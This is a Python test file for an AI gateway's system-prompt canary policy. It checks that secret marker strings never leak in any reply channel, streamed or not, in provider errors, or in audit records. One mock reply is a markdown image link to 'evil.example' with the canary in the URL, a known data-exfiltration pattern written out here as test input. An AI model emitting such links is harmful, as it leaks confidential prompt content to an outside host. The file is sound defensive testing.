# SPDX-FileCopyrightText: The AI Utilities authors
# SPDX-License-Identifier: Apache-2.0
"""Canaries of a policy: strings that leave in no answer, streamed or not, in text or arguments, cut
anywhere."""
import json
import os
import signal

import harness

CANARY = "Zx-Otter-77q \"quoted\" \\ end"
OTHER = "the blue heron stands at seven"


def value(folder, name, text):
    return {"file": harness.write_private(os.path.join(folder, name), text)}


class PromptCanary(harness.Case):
    environment = {"PROMPT_CANARY": OTHER}

    @classmethod
    def configure(cls, config):
        config["keys"][0]["policy"] = "watched"
        config["policies"] = [{"name": "watched", "canaries": [
            {"name": "support", "value": value(cls.folder, "canary", CANARY)},
            {"name": "sales", "value": {"env": "PROMPT_CANARY"}}],
            "request": {"pii": "allow", "secrets": "allow", "hidden_text": "allow"},
            "response": {"pii": "flag", "secrets": "allow", "links": "flag", "hidden_text": "flag"}}]

    def result(self):
        return [e for e in self.gateway.audit() if e["t"] == "result"][-1]

    def said(self, reply):
        """All that came, with the escapes of every depth taken off."""
        text = reply.body.decode("utf-8", "replace")
        parts = [reply.text(c) for c in ("content", "reasoning", "tool", "refusal")
                 if reply.status == 200]
        parts += [json.loads(p)["text"] for p in parts if p.startswith('{"text"') and p.endswith("}")]
        return "\n".join([text] + parts)

    def assert_held(self, reply, prefix=""):
        said = self.said(reply).lower()
        for mark in (CANARY, OTHER):
            for n in (len(mark), 8):
                self.assertNotIn(mark[:n].lower(), said)
        self.assertIn("content_filter", said)

    def test_no_answer_holds_one_whatever_its_form(self):
        for channel in ("content", "reasoning", "tool", "refusal"):
            for mark in (CANARY, OTHER.upper()):
                for stream, mock in ((False, {}), (True, {"chunk": 1}), (True, {"chunk": 7}),
                                     (True, {"chunk": 1000}), (True, {"chunk": 3, "write": 1}),
                                     (True, {"chunk": 2, "escape": True}), (False, {"escape": True})):
                    reply = self.chat(stream=stream, mock={
                        "reply": "Sure, it says: " + mark + ". Bye.", "channel": channel, **mock})
                    with self.subTest(channel=channel, mark=mark, stream=stream, mock=mock):
                        self.assertEqual(reply.status, 200)
                        self.assert_held(reply)

    def test_the_record_tells_it_from_other_blocks(self):
        for stream in (False, True):
            self.chat(stream=stream, mock={"reply": "x " + OTHER})
            policy = self.result()["policy"]
            self.assertEqual(policy["verdict"], "block")
            self.assertEqual(policy["prompt_leak"], 1)
            self.assertNotIn(OTHER, json.dumps(self.gateway.audit()))

    def test_no_finding_hides_one(self):
        for reply in ("mail %s@example.com", "see ![x](https://evil.example/?d=%s)",
                      "-----BEGIN PRIVATE KEY-----\nMIIEvAIBADANBgkqhkiG9w0BAQEFAASCBKYwggSiAgEA%s"):
            for stream in (False, True):
                self.assert_held(self.chat(stream=stream, mock={"chunk": 4, "reply": reply % CANARY}))

    def test_an_error_of_the_provider_holds_none_either(self):
        for status in (400, 429, 500):
            reply = self.chat(mock={"status": status, "error": {
                "message": "not: " + OTHER, "type": "t", "param": None, "code": None}})
            self.assertNotEqual(reply.status, 200)
            self.assertNotIn(OTHER, reply.body.decode())

    def test_a_request_may_hold_it_and_other_answers_go_on(self):
        text = "You know " + OTHER[:-5] + " and Zx-Otter-77"
        for stream in (False, True):
            reply = self.post(json.dumps({"model": "mock-echo", "stream": stream, "messages": [
                {"role": "system", "content": "Mark: " + CANARY + OTHER},
                {"role": "user", "content": "x"}], "mock": {"reply": text, "chunk": 1}}).encode())
            self.assertEqual(reply.text(), text)
        self.assertIn(OTHER, self.mock.requests()[-1]["body"])

    def test_one_that_is_too_short_is_refused_and_the_old_ones_stay(self):
        if harness.DIRECT:
            self.skipTest("there is no gateway")
        for text, why in (("short", "fewer than 8 characters"), ("-" * 30, "different characters"),
                          ("x1y2z" * 50, "more than 200 characters")):
            value(self.folder, "canary", text)
            with open(self.gateway.log_path) as log:
                log.seek(0, 2)
                os.kill(self.gateway.pid, signal.SIGHUP)
                said = [""]
                harness.wait_until(lambda: said.append(said.pop() + log.read()) or why in said[0],
                                   10, why)
            self.assertIn("policies[0].canaries[0].value", said[0])
            self.assertNotIn(text, said[0])
            self.assert_held(self.chat(mock={"reply": CANARY}))
        value(self.folder, "canary", "short")
        done = self.gateway.aiu("config", "check", "--config", self.gateway.config_path, check=False)
        self.assertEqual(done.returncode, 3)
        self.assertIn(b"policies[0].canaries[0].value: has fewer than 8", done.stdout + done.stderr)


if __name__ == "__main__":
    harness.main()
